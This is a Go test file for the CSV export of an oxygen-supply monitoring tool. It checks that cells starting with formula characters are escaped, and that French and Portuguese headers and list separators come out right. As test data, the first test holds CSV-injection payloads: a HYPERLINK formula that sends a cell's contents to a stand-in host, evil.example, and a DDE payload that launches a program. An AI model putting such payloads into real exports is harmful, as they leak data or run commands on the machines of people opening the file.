package report

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/oxywatch/oxywatch/internal/i18n"
)

// TestCSVNeutralisesFormulas (issue 13 finding 10): a text cell that a
// spreadsheet would read as a formula (it starts with = + - @, a tab or a
// carriage return) is written with a leading ', so opening the export runs
// nothing; numbers, negative ones included, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"details")`
	neg := -1.5
	up := &UptimeReport{Group: GroupFacility, Items: []UptimeRow{{
		Key: "+f-1", Name: hyperlink, Facility: "@SUM(A1:A9)", Region: "-north", Country: "\tUG",
		OutageH: -2, UptimePct: &neg, TopCauses: []CauseHours{{Cause: "=cmd|' /C calc'!A0", Hours: 3}},
	}}}
	var b bytes.Buffer
	if err := WriteUptimeCSV(&b, up); err != nil {
		t.Fatal(err)
	}
	row := csvRow(t, b.Bytes(), UptimeColumns)
	for col, want := range map[string]string{
		"key": "'+f-1", "name": "'" + hyperlink, "facility": "'@SUM(A1:A9)", "region": "'-north", "country": "'\tUG",
		"top_causes": "'=cmd|' /C calc'!A0=3", "outage_h": "-2", "uptime_pct": "-1.5", "devices": "0",
	} {
		if row[col] != want {
			t.Errorf("uptime %s: got %q, want %q", col, row[col], want)
		}
	}

	sup := &SupplyReport{Group: GroupRegion, Items: []SupplyRow{{Key: "\rnorth", Name: "=1+1", Region: "north", RatedLPM: -3, DemandLPM: &neg}}}
	b.Reset()
	if err := WriteSupplyCSV(&b, sup); err != nil {
		t.Fatal(err)
	}
	row = csvRow(t, b.Bytes(), SupplyColumns)
	for col, want := range map[string]string{"key": "'\rnorth", "name": "'=1+1", "region": "north", "rated_lpm": "-3", "demand_lpm": "-1.5"} {
		if row[col] != want {
			t.Errorf("supply %s: got %q, want %q", col, row[col], want)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "north": "north", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "'=1": "'=1", "Côte d'Ivoire": "Côte d'Ivoire",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q): got %q, want %q", in, got, want)
		}
	}
}

// csvRow reads a header and one row, by column name.
func csvRow(t *testing.T, b []byte, header []string) map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) != 2 || len(recs[1]) != len(header) {
		t.Fatalf("got %q (%v), want a header and one row", b, err)
	}
	row := map[string]string{}
	for i, h := range header {
		row[h] = recs[1][i]
	}
	return row
}

// With human headers the supply CSV names its new columns and the demand
// and autonomy bases in the reader's language; machine headers keep codes.
func TestSupplyCSVBasesInWords(t *testing.T) {
	days := 2.5
	sup := &SupplyReport{Group: GroupFacility, Items: []SupplyRow{{Key: "hoima", DemandBasis: DemandFromCategories,
		Storage: Storage{AutonomyDays: &days, AutonomyBasis: AutonomyFromOutflow}}}}
	var b bytes.Buffer
	if err := WriteSupplyCSV(&b, sup); err != nil {
		t.Fatal(err)
	}
	row := csvRow(t, b.Bytes(), SupplyColumns)
	if row["demand_basis"] != "bed_categories" || row["autonomy_basis"] != "storage_outflow" || row["autonomy_days"] != "2.5" || row["stock_l"] != "" {
		t.Errorf("machine: %v", row)
	}
	b.Reset()
	if err := WriteSupplyCSVWith(&b, sup, CSVHeaders{Human: true, Lang: "fr"}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&b)
	r.Comma = ';' // a French reader's spreadsheet splits on ';' (93,4 has a comma)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	fr := map[string]string{}
	for i, h := range recs[0] {
		fr[h] = recs[1][i]
	}
	if fr["base de la demande"] != "lits par catégorie" || fr["base de l’autonomie"] != "débit sortant mesuré" || fr["autonomie (jours)"] != "2,5" {
		t.Errorf("French: %v", fr)
	}
}

// The main causes are a list written as the reader's language writes one:
// "a; b" in the machine CSV and in Portuguese, "a\u00a0; b" in French (a
// no-break space before the semicolon, report.list_sep).
func TestCausesListSeparator(t *testing.T) {
	up := &UptimeReport{Group: GroupFacility, Items: []UptimeRow{{Key: "jinja",
		TopCauses: []CauseHours{{Cause: "state:fault", Label: CauseLabel("state:fault"), Hours: 210}, {Cause: "power:none", Label: CauseLabel("power:none"), Hours: 24.5}}}}}
	for _, tc := range []struct {
		h      CSVHeaders
		column string
		want   string
	}{
		{CSVHeaders{}, "top_causes", "fault reported by the device=210; mains power lost=24.5"},
		{CSVHeaders{Human: true, Lang: "fr"}, "principales causes d’arrêt", "panne signalée par l’appareil=210\u00a0; coupure du secteur=24,5"},
		{CSVHeaders{Human: true, Lang: "pt"}, "principais causas de paragem", "avaria indicada pelo equipamento=210; falta de energia da rede=24,5"},
	} {
		var b bytes.Buffer
		if err := WriteUptimeCSVWith(&b, up, tc.h); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&b)
		if tc.h.Human {
			r.Comma = ';'
		}
		recs, err := r.ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%+v: got %q (%v)", tc.h, b.String(), err)
		}
		got := ""
		for i, h := range recs[0] {
			if h == tc.column {
				got = recs[1][i]
			}
		}
		if got != tc.want {
			t.Errorf("%+v: %s is %q, want %q", tc.h, tc.column, got, tc.want)
		}
	}
	p := &Page{tr: wordsIn(i18n.French)}
	row := RepairRow{TopCauses: []WorkOrderCause{{Cause: "mains_loss", WorkOrders: 2}, {Cause: "compressor_fault", WorkOrders: 1}}}
	if got, want := p.RepairCauses(row), "coupure du secteur (2)\u00a0; panne du compresseur (1)"; got != want {
		t.Errorf("French repair causes: got %q, want %q", got, want)
	}
}
